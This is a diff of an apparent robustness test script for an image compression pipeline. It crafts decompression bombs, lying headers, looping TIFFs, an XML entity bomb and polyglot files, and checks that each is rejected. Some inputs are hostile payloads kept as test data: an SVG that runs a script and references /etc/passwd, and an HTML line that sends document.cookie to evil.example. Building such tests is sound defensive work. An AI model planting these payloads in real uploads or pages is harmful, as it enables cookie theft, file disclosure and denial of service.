@@ -6,7 +6,6 @@ options (JSON) given there, and prints a line of JSON for each: its name, the ou
 
 from __future__ import annotations
 
-import io
 import json
 import os
 import random
@@ -14,37 +13,22 @@ import re
 import struct
 import sys
 import tempfile
-import time
 import zlib
 from collections.abc import Callable
-from functools import cache
 from pathlib import Path
 from typing import Any
 
 from PIL import ExifTags, Image, ImageCms
 
 from imgproc.errors import CompressError
-from imgproc.pipeline.compress import CompressOptions, compress
+from imgproc.pipeline.compress import CompressOptions, MemoryBudget, compress
 from imgproc.supervisor import limit_memory
+from tests.unit import growing_inputs as growing
+from tests.unit.picture_bytes import HTML, encode, exif, photo_bytes, png, png_chunk, stuffed_jpeg, tiff
 
 MAX_PIXELS = 50_000_000
+MEMORY = MemoryBudget(0)
 SIDE = 7071  # squared just below the cap
-
-
-def _encode(image: Image.Image, image_format: str, **options: Any) -> bytes:
-    stream = io.BytesIO()
-    image.save(stream, image_format, **options)
-    return stream.getvalue()
-
-
-def _chunk(name: bytes, body: bytes) -> bytes:
-    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
-
-
-def _png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2, body: bytes = b"") -> bytes:
-    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
-    end = _chunk(b"IDAT", body or zlib.compress(bytes(10))) + _chunk(b"IEND", b"")
-    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + end
 
 
 def _zeros(size: int) -> bytes:
@@ -57,7 +41,7 @@ def _zeros(size: int) -> bytes:
 
 def _frames(image_format: str, count: int) -> bytes:
     frames = [Image.new("L", (64, 64), number % 256) for number in range(count)]
-    return _encode(frames[0], image_format, save_all=True, append_images=frames[1:])
+    return encode(frames[0], image_format, save_all=True, append_images=frames[1:])
 
 
 def _gif_of_large_frames() -> bytes:
@@ -67,40 +51,27 @@ def _gif_of_large_frames() -> bytes:
     return head + frame * 200 + b";"
 
 
-def _tiff(width: int, height: int, *entries: tuple[int, int, int, int]) -> bytes:
-    """A little-endian TIFF that says all this and holds nothing."""
-    own = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1)]
-    tags = sorted({entry[0]: entry for entry in (*own, *entries)}.values())
-    body = b"".join(struct.pack("<HHII", *tag) for tag in tags)
-    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + body + bytes(4)
-
-
 def _endless_ifds() -> bytes:
     """A TIFF whose directories lead in a circle."""
-    whole = _tiff(8, 8, (273, 4, 1, 8), (279, 4, 1, 64))
+    whole = tiff(8, 8, (273, 4, 1, 8), (279, 4, 1, 64))
     return whole[:-4] + struct.pack("<I", 8) + bytes(64)
 
 
 def _jpeg_header(width: int, height: int) -> bytes:
-    whole = bytearray(_encode(Image.new("RGB", (16, 16)), "JPEG"))
+    whole = bytearray(encode(Image.new("RGB", (16, 16)), "JPEG"))
     place = whole.index(b"\xff\xc0") + 5
     whole[place : place + 4] = struct.pack(">HH", height, width)
     return bytes(whole)
 
 
 def _scan_bomb(scans: int) -> bytes:
-    whole = _encode(Image.new("L", (4000, 4000), 128), "JPEG", progressive=True)
+    whole = encode(Image.new("L", (4000, 4000), 128), "JPEG", progressive=True)
     scan = whole[whole.rindex(b"\xff\xda") : -2]
     return whole[:-2] + scan * scans + whole[-2:]
 
 
-@cache
-def _photo(image_format: str, **options: object) -> bytes:
-    return _encode(Image.effect_mandelbrot((400, 300), (-2, -1.5, 1, 1.5), 50), image_format, **options)
-
-
 def _square(side: int, mode: str, image_format: str, **options: object) -> bytes:
-    return _encode(Image.new(mode, (side, side)), image_format, **options)
+    return encode(Image.new(mode, (side, side)), image_format, **options)
 
 
 def _largest(mode: str, image_format: str, **options: object) -> bytes:
@@ -140,8 +111,8 @@ def _deflated_tiff(
     depths = 8 + 2 + 12 * tags + 4
     described = ((258, 3, 4, depths), (259, 3, 1, 8), (262, 3, 1, 2), (277, 3, 1, 4), (338, 3, 1, 2), (284, 3, 1, 1))
     where = ((places[0], 4, 1, depths + 8), (places[1], 4, 1, len(body)))
-    tiff = _tiff(side, side, *described, *where, *entries)
-    return tiff[:depths].ljust(depths, b"\0") + struct.pack("<4H", *[bits] * 4) + body
+    whole = tiff(side, side, *described, *where, *entries)
+    return whole[:depths].ljust(depths, b"\0") + struct.pack("<4H", *[bits] * 4) + body
 
 
 def _noisy_png() -> bytes:
@@ -149,25 +120,31 @@ def _noisy_png() -> bytes:
     noise, packer = random.Random(1).randbytes(48 * 1024 * 1024), zlib.compressobj(1)
     rows = (noise[row : row + 4 * SIDE].ljust(4 * SIDE, b"\0") for row in range(0, 4 * SIDE * SIDE, 4 * SIDE))
     body = b"".join(packer.compress(b"\0" + row) for row in rows) + packer.flush()
-    return _png(SIDE, SIDE, colour=6, body=body)
+    return png(SIDE, SIDE, colour=6, body=body)
 
 
-def _stuffed_jpeg(stuffing: bytes, *, segments: int = 0) -> bytes:
-    """As much of it as fits into 50 MB, behind the first segment of a picture."""
-    jpeg = _photo("JPEG")
-    return jpeg[:20] + stuffing * (segments or 50_000_000 // len(stuffing)) + jpeg[20:]
+def _noise(side: int, *, depth: int) -> bytes:
+    """Random pixels of so many bits each, which a random palette makes colours and transparency."""
+    chance, count = random.Random(2), 2**depth
+    colours = png_chunk(b"PLTE", chance.randbytes(3 * count)) + png_chunk(b"tRNS", chance.randbytes(count))
+    rows = (b"\0" + chance.randbytes(-(-side * depth // 8)) for _ in range(side))
+    return png(side, side, colours, depth=depth, colour=3, body=zlib.compress(b"".join(rows), 1))
 
 
-def _exif(tag: int, kind: int, count: int) -> bytes:
-    """One tag, of so many values."""
-    sizes = {3: 2, 5: 8}
-    values = bytes(count * sizes[kind]).ljust(65533 - 32, b"\0")
-    return b"Exif\0\0II*\0\x08\0\0\0\x01\0" + struct.pack("<HHII", tag, kind, count, 26) + bytes(4) + values
+def _noisy_jpeg() -> bytes:
+    noise = Image.frombytes("RGB", (SIDE, SIDE), random.Random(3).randbytes(3 * SIDE * SIDE))
+    return encode(noise, "JPEG", quality=40)
+
+
+def _waves(side: int) -> bytes:
+    """Soft in every channel: the worst of all for lossless transparency."""
+    small = Image.frombytes("RGBA", (side // 8, side // 8), random.Random(4).randbytes(4 * (side // 8) ** 2))
+    return encode(small.resize((side, side), Image.Resampling.BICUBIC), "PNG", compress_level=1)
 
 
 def _tiff_of_parts(*entries: tuple[int, int, int, int], places: int) -> bytes:
-    tiff = _tiff(64, 64, *entries, (places, 4, 10_000_000, 999))
-    return tiff.ljust(999, b"\0") + bytes(40_000_000)
+    whole = tiff(64, 64, *entries, (places, 4, 10_000_000, 999))
+    return whole.ljust(999, b"\0") + bytes(40_000_000)
 
 
 def _all_extras() -> dict[str, Any]:
@@ -185,24 +162,23 @@ def swapped_profile() -> bytes:
 
 _LOSSLESS_WEBP = bytes.fromhex("524946461a000000574542505650384c0d0000002f9e9be716071011118888fe0700")
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="file:///etc/passwd"/></svg>'
-HTML = b"<!DOCTYPE html><script>fetch('//evil.example/'+document.cookie)</script>"
 XML_BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;&b;">]><svg>&c;</svg>'
 Case = tuple[Callable[[], bytes], str]
 CASES: dict[str, Case] = {
     # Pixels: the header is believed, and refused, before anything is decoded.
-    "a PNG of 65,535 squared in 100 bytes": (lambda: _png(65535, 65535), "too_many_pixels"),
-    "a PNG as large as PNG goes": (lambda: _png(2**31 - 1, 2**31 - 1), "too_many_pixels"),
+    "a PNG of 65,535 squared in 100 bytes": (lambda: png(65535, 65535), "too_many_pixels"),
+    "a PNG as large as PNG goes": (lambda: png(2**31 - 1, 2**31 - 1), "too_many_pixels"),
     "a PNG of a billion pixels, whole": (
-        lambda: _png(32000, 32000, depth=1, colour=0, body=_zeros(32000 * 4001)),
+        lambda: png(32000, 32000, depth=1, colour=0, body=_zeros(32000 * 4001)),
         "too_many_pixels",
     ),
-    "a PNG just above the cap": (lambda: _png(SIDE + 1, SIDE, depth=1, colour=0), "too_many_pixels"),
+    "a PNG just above the cap": (lambda: png(SIDE + 1, SIDE, depth=1, colour=0), "too_many_pixels"),
     "a JPEG of 65,500 squared": (lambda: _jpeg_header(65500, 65500), "too_many_pixels"),
     "a BMP of 2 billion pixels a side": (
         lambda: b"BM" + struct.pack("<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 2**31 - 1, 2**31 - 1, 1, 24, *[0] * 6),
         "too_many_pixels",
     ),
-    "a TIFF of 100,000 squared": (lambda: _tiff(100_000, 100_000, (273, 4, 1, 8), (279, 4, 1, 8)), "too_many_pixels"),
+    "a TIFF of 100,000 squared": (lambda: tiff(100_000, 100_000, (273, 4, 1, 8), (279, 4, 1, 8)), "too_many_pixels"),
     "a GIF of 65,535 squared": (
         lambda: b"GIF89a\xff\xff\xff\xff\0\0\0," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\2\2\x4c\1\0;",
         "too_many_pixels",
@@ -254,69 +230,90 @@ CASES: dict[str, Case] = {
     "an AVIF at the cap": (lambda: _largest("RGB", "AVIF", speed=10), "too_many_pixels"),
     "a WebP at the cap": (lambda: _largest("RGB", "WEBP", method=0), "too_many_pixels"),
     "a lossless WebP at the cap in 34 bytes": (lambda: _LOSSLESS_WEBP, "too_many_pixels"),
-    "one pixel high and very wide": (lambda: _encode(Image.new("L", (65500, 1)), "JPEG"), "rendition"),
+    "a row wider than WebP and AVIF hold": (lambda: encode(Image.new("L", (80_000, 1)), "PNG"), "rendition"),
+    "a column higher than WebP holds": (lambda: encode(Image.new("RGB", (1, 40_000)), "PNG"), "rendition"),
+    # Slow to encode.
+    "the largest noise of 16 colours, with transparency": (lambda: _noise(SIDE, depth=4), "rendition"),
+    "the largest noise of two colours, with transparency": (lambda: _noise(SIDE, depth=1), "rendition"),
+    "the largest JPEG of noise": (_noisy_jpeg, "rendition"),
+    "waves of colour and transparency, 3,000 squared": (lambda: _waves(3000), "rendition"),
+    "noise of 16 colours and transparency, 2,000 squared": (lambda: _noise(2000, depth=4), "rendition"),
+    "one pixel high and very wide": (lambda: encode(Image.new("L", (65500, 1)), "JPEG"), "rendition"),
     # Animations and pages: the first one alone.
     "an animated GIF of 2,000 frames": (lambda: _frames("GIF", 2000), "rendition"),
     "a GIF of 200 empty frames at the cap": (_gif_of_large_frames, "truncated_image"),
     "an animated PNG of 500 frames": (lambda: _frames("PNG", 500), "rendition"),
     "an animated PNG that says four billion": (
-        lambda: _png(8, 8, _chunk(b"acTL", b"\xff" * 8), body=zlib.compress(bytes(8 * 25))),
+        lambda: png(8, 8, png_chunk(b"acTL", b"\xff" * 8), body=zlib.compress(bytes(8 * 25))),
         "rendition",
     ),
     "an animated WebP of 200 frames": (lambda: _frames("WEBP", 200), "rendition"),
     "a TIFF of 500 pages": (lambda: _frames("TIFF", 500), "rendition"),
     "a TIFF whose pages lead in a circle": (_endless_ifds, "rendition"),
     # Compressed text and profiles.
-    "a PNG text of 1 GiB": (lambda: _png(9, 9, _chunk(b"zTXt", b"a\0\0" + _zeros(2**30))), "corrupt_image"),
-    "a PNG profile of 1 GiB": (lambda: _png(9, 9, _chunk(b"iCCP", b"a\0\0" + _zeros(2**30))), "corrupt_image"),
+    "a PNG text of 1 GiB": (lambda: png(9, 9, png_chunk(b"zTXt", b"a\0\0" + _zeros(2**30))), "corrupt_image"),
+    "a PNG profile of 1 GiB": (lambda: png(9, 9, png_chunk(b"iCCP", b"a\0\0" + _zeros(2**30))), "corrupt_image"),
     "a PNG international text of 1 GiB": (
-        lambda: _png(9, 9, _chunk(b"iTXt", b"a\0\1\0\0\0" + _zeros(2**30))),
+        lambda: png(9, 9, png_chunk(b"iTXt", b"a\0\1\0\0\0" + _zeros(2**30))),
         "corrupt_image",
     ),
     "1,000 PNG texts of 1 MiB": (
-        lambda: _png(9, 9, *[_chunk(b"zTXt", b"a\0\0" + _zeros(2**20))] * 1000),
+        lambda: png(9, 9, *[png_chunk(b"zTXt", b"a\0\0" + _zeros(2**20))] * 1000),
         "corrupt_image",
     ),
-    "PNG pixels of 1 GiB for 9 x 9": (lambda: _png(9, 9, body=_zeros(2**30)), "rendition"),
-    "a JPEG profile that is not one": (lambda: _photo("JPEG", icc_profile=b"\xff" * 60_000), "rendition"),
+    "PNG pixels of 1 GiB for 9 x 9": (lambda: png(9, 9, body=_zeros(2**30)), "rendition"),
+    "a JPEG profile that is not one": (lambda: photo_bytes("JPEG", icc_profile=b"\xff" * 60_000), "rendition"),
     # Truncated, lying, costly.
-    "half a JPEG": (lambda: _photo("JPEG")[:2000], "truncated_image"),
-    "half a WebP": (lambda: _photo("WEBP")[:1000], "truncated_image"),
-    "a PNG without pixels": (lambda: _png(9, 9), "truncated_image"),
-    "a PNG chunk that says 4 GiB": (lambda: _png(9, 9)[:33] + b"\xff\xff\xff\xffIDAT", "truncated_image"),
+    "half a JPEG": (lambda: photo_bytes("JPEG")[:2000], "truncated_image"),
+    "half a WebP": (lambda: photo_bytes("WEBP")[:1000], "truncated_image"),
+    "a PNG without pixels": (lambda: png(9, 9), "truncated_image"),
+    "a PNG chunk that says 4 GiB": (lambda: png(9, 9)[:33] + b"\xff\xff\xff\xffIDAT", "truncated_image"),
     "a TIFF strip beyond the file": (
-        lambda: _tiff(64, 64, (273, 4, 1, 2**32 - 2), (279, 4, 1, 2**31)),
+        lambda: tiff(64, 64, (273, 4, 1, 2**32 - 2), (279, 4, 1, 2**31)),
         "truncated_image",
     ),
-    "a TIFF tag of 4 billion values": (lambda: _tiff(64, 64, (273, 4, 2**32 - 1, 8)), "corrupt_image"),
+    "a TIFF tag of 4 billion values": (lambda: tiff(64, 64, (273, 4, 2**32 - 1, 8)), "corrupt_image"),
     # Many parts, each of which Pillow reads in Python and keeps.
-    "a JPEG of 12 million empty segments": (lambda: _stuffed_jpeg(b"\xff\xe1\0\2"), "unsupported_format"),
-    "a JPEG of 12 million empty comments": (lambda: _stuffed_jpeg(b"\xff\xfe\0\2"), "unsupported_format"),
+    "a JPEG of 12 million empty segments": (lambda: stuffed_jpeg(b"\xff\xe1\0\2"), "unsupported_format"),
+    "a JPEG of 12 million empty comments": (lambda: stuffed_jpeg(b"\xff\xfe\0\2"), "unsupported_format"),
     "a JPEG of 3 million frames": (
-        lambda: _stuffed_jpeg(b"\xff\xc0\0\x0b\x08\0\x08\0\x08\1\1\x11\0"),
+        lambda: stuffed_jpeg(b"\xff\xc0\0\x0b\x08\0\x08\0\x08\1\1\x11\0"),
         "unsupported_format",
     ),
-    "a JPEG of 50 MB of padding": (lambda: _stuffed_jpeg(b"\xff"), "unsupported_format"),
-    "a JPEG of 50 MB of junk": (lambda: _stuffed_jpeg(b"\0"), "unsupported_format"),
+    "a JPEG of 50 MB of padding": (lambda: stuffed_jpeg(b"\xff"), "unsupported_format"),
+    "a JPEG of 50 MB of junk": (lambda: stuffed_jpeg(b"\0"), "unsupported_format"),
     "a JPEG of 700 Exif segments": (
-        lambda: _stuffed_jpeg(b"\xff\xe1\xff\xffExif\0\0" + bytes(65527)),
+        lambda: stuffed_jpeg(b"\xff\xe1\xff\xffExif\0\0" + bytes(65527)),
         "unsupported_format",
     ),
-    "a JPEG of 700 segments of unknown use": (lambda: _stuffed_jpeg(b"\xff\xe9\xff\xff" + bytes(65533)), "rendition"),
+    "a JPEG of 700 segments of unknown use": (lambda: stuffed_jpeg(b"\xff\xe9\xff\xff" + bytes(65533)), "rendition"),
     "a JPEG of 15 Exif segments, with a table of 8,000 resolutions": (
-        lambda: _stuffed_jpeg(b"\xff\xe1\xff\xff" + _exif(282, 5, 8000), segments=15),
+        lambda: stuffed_jpeg(b"\xff\xe1\xff\xff" + exif(282, 5, 8000), segments=15),
         "rendition",
     ),
+    "a JPEG of 2 million bytes of padding and no marker": (
+        lambda: bytes.fromhex("FFD8FFE00002") + b"\xff" * 2_000_000 + bytes(100),
+        "unsupported_format",
+    ),
+    "an AVIF of 100,000 places": (lambda: growing.avif_of_places(100_000), "unsupported_format"),
+    "an AVIF of 100,000 items": (lambda: growing.avif_of_items(100_000), "unsupported_format"),
+    "an AVIF of 100,000 references": (lambda: growing.avif_of_references(100_000), "unsupported_format"),
+    "an AVIF of as many references as pass": (lambda: growing.avif_of_references(3500), "corrupt_image"),
+    "a JPEG with a profile of 10,000 steps": (
+        lambda: photo_bytes("JPEG", icc_profile=growing.profile_of_steps(10_000)),
+        "rendition",
+    ),
+    "a WebP of 6 million chunks": (lambda: growing.webp_of_chunks(6_000_000), "unsupported_format"),
     "a PNG with a table of 20 million orientations": (
-        lambda: _png(9, 9, _chunk(b"eXIf", _exif(274, 3, 20_000_000)[6:]), body=zlib.compress(bytes(9 * 28))),
+        lambda: png(9, 9, png_chunk(b"eXIf", exif(274, 3, 20_000_000)[6:]), body=zlib.compress(bytes(9 * 28))),
         "rendition",
     ),
     "a PNG of 2 million texts": (
-        lambda: _png(9, 9, _chunk(b"tEXt", b"a\0b") * 2_000_000),
+        lambda: png(9, 9, png_chunk(b"tEXt", b"a\0b") * 2_000_000),
         "unsupported_format",
     ),
     "a PNG of 3 million bytes of pixels, a chunk each": (
-        lambda: _png(999, 999, _chunk(b"IDAT", b"\0") * 3_000_000),
+        lambda: png(999, 999, png_chunk(b"IDAT", b"\0") * 3_000_000),
         "unsupported_format",
     ),
     "a GIF of 9 million comments": (lambda: b"GIF89a\1\0\1\0\0\0\0" + b"!\xfe\1a\0" * 9_000_000, "unsupported_format"),
@@ -327,7 +324,7 @@ CASES: dict[str, Case] = {
         "unsupported_format",
     ),
     "a TIFF whose 1,000 tags share 4 MiB": (
-        lambda: _tiff(64, 64, *[(40_000 + n, 1, 2**22, 8) for n in range(1000)]) + bytes(2**22),
+        lambda: tiff(64, 64, *[(40_000 + n, 1, 2**22, 8) for n in range(1000)]) + bytes(2**22),
         "corrupt_image",
     ),
     "a progressive JPEG of 1,000 scans": (lambda: _scan_bomb(1000), "unsupported_format"),
@@ -341,10 +338,10 @@ CASES: dict[str, Case] = {
         "truncated_image",
     ),
     # Two files in one, and one dressed as another.
-    "a JPEG that is a web page too": (lambda: _photo("JPEG", comment=HTML), "rendition"),
+    "a JPEG that is a web page too": (lambda: photo_bytes("JPEG", comment=HTML), "rendition"),
     "a GIF that is a script too": (lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "truncated_image"),
-    "a JPEG with a ZIP behind": (lambda: _photo("JPEG") + b"PK\3\4" + bytes(1000), "rendition"),
-    "a PNG with a script behind": (lambda: _photo("PNG") + HTML, "rendition"),
+    "a JPEG with a ZIP behind": (lambda: photo_bytes("JPEG") + b"PK\3\4" + bytes(1000), "rendition"),
+    "a PNG with a script behind": (lambda: photo_bytes("PNG") + HTML, "rendition"),
     "SVG": (lambda: SVG, "not_an_image"),
     "SVG after 60,000 spaces": (lambda: b" " * 60_000 + SVG, "not_an_image"),
     "an XML bomb": (lambda: XML_BOMB, "not_an_image"),
@@ -365,7 +362,7 @@ CASES: dict[str, Case] = {
 def run(source: bytes, **options: Any) -> str:
     """The outcome with the options of an upload, which names none unless they are given."""
     try:
-        compress(source, options=CompressOptions(**options), max_pixels=MAX_PIXELS)
+        compress(source, options=CompressOptions(**options), max_pixels=MAX_PIXELS, memory=MEMORY)
     except CompressError as error:
         return error.code
     return "rendition"
@@ -373,44 +370,58 @@ def run(source: bytes, **options: Any) -> str:
 
 def main(begins: str, limit: int, options: dict[str, Any]) -> None:
     """Try the cases, each in a child of its own, which finds the libraries loaded and the source made."""
-    run(_photo("PNG"))
+    idle = warm()
     for name, (make, _) in CASES.items():
         if name.startswith(begins):
-            source = _made(make)
-            if (child := os.fork()) == 0:
-                _measure(name, source, limit, options)
-                os._exit(0)
-            _, status = os.waitpid(child, 0)
-            if status:
-                sys.exit(f"{name}: the process ended with {os.waitstatus_to_exitcode(status)}")
+            measured = measure(made(make), limit=limit, idle=idle, **options)
+            sys.stdout.write(json.dumps({"name": name} | measured) + "\n")
+            if measured["outcome"].startswith("died"):
+                sys.exit(f"{name}: the process {measured['outcome']}")
 
 
-def _made(make: Callable[[], bytes]) -> bytes:
+def warm() -> int:
+    """Load what a worker has loaded, and tell the bytes of memory that takes."""
+    for image_format in ("jpeg", "webp", "avif", "png"):
+        run(photo_bytes("PNG"), format=image_format, quality="smart")
+    return _memory("VmRSS")
+
+
+def made(make: Callable[[], bytes]) -> bytes:
     """The source, made in a process of its own, so that this one keeps none of the memory that it took."""
     with tempfile.TemporaryFile() as file:
-        if os.fork() == 0:
+        if (child := os.fork()) == 0:
             file.write(make())
             file.flush()
             os._exit(0)
-        _, status = os.wait()
+        _, status = os.waitpid(child, 0)
         assert status == 0
         file.seek(0)
         return file.read()
 
 
-def _measure(name: str, source: bytes, limit: int, options: dict[str, Any]) -> None:
-    limit_memory(limit)
-    Path("/proc/self/clear_refs").write_text("5")  # the peak starts anew: proc(5)
-    started = time.process_time()
-    outcome = run(source, **options)
-    seconds = time.process_time() - started
-    line = json.dumps({"name": name, "outcome": outcome, "peak": _peak(), "seconds": seconds, "bytes": len(source)})
-    os.write(sys.stdout.fileno(), f"{line}\n".encode())
+def measure(source: bytes, *, limit: int, idle: int, **options: Any) -> dict[str, Any]:
+    """What becomes of `source` in a child: the outcome, bytes of memory at most and beyond `idle`, seconds of CPU."""
+    reader, writer = os.pipe()
+    if (child := os.fork()) == 0:
+        limit_memory(limit)
+        Path("/proc/self/clear_refs").write_text("5")  # the peak starts anew: proc(5)
+        outcome = run(source, **options)
+        seconds = sum(os.times()[:4])
+        peak = _memory("VmHWM")
+        line = {"outcome": outcome, "peak": peak, "beyond": peak - idle, "seconds": seconds, "bytes": len(source)}
+        os.write(writer, json.dumps(line).encode())
+        os._exit(0)
+    os.close(writer)
+    with os.fdopen(reader, "rb") as pipe:
+        line = pipe.read()
+    _, status = os.waitpid(child, 0)
+    died = {"outcome": f"died with {os.waitstatus_to_exitcode(status)}", "peak": 0, "beyond": 0, "seconds": 0.0}
+    return died if status else json.loads(line)
 
 
-def _peak() -> int:
-    """Bytes of memory at most, as this process has had them since the peak was cleared."""
-    (line,) = (line for line in Path("/proc/self/status").read_text().splitlines() if line.startswith("VmHWM"))
+def _memory(what: str) -> int:
+    """Bytes that this process has, or has had at most since the peak was cleared."""
+    (line,) = (line for line in Path("/proc/self/status").read_text().splitlines() if line.startswith(what))
     return int(line.split()[1]) * 1024
 
 
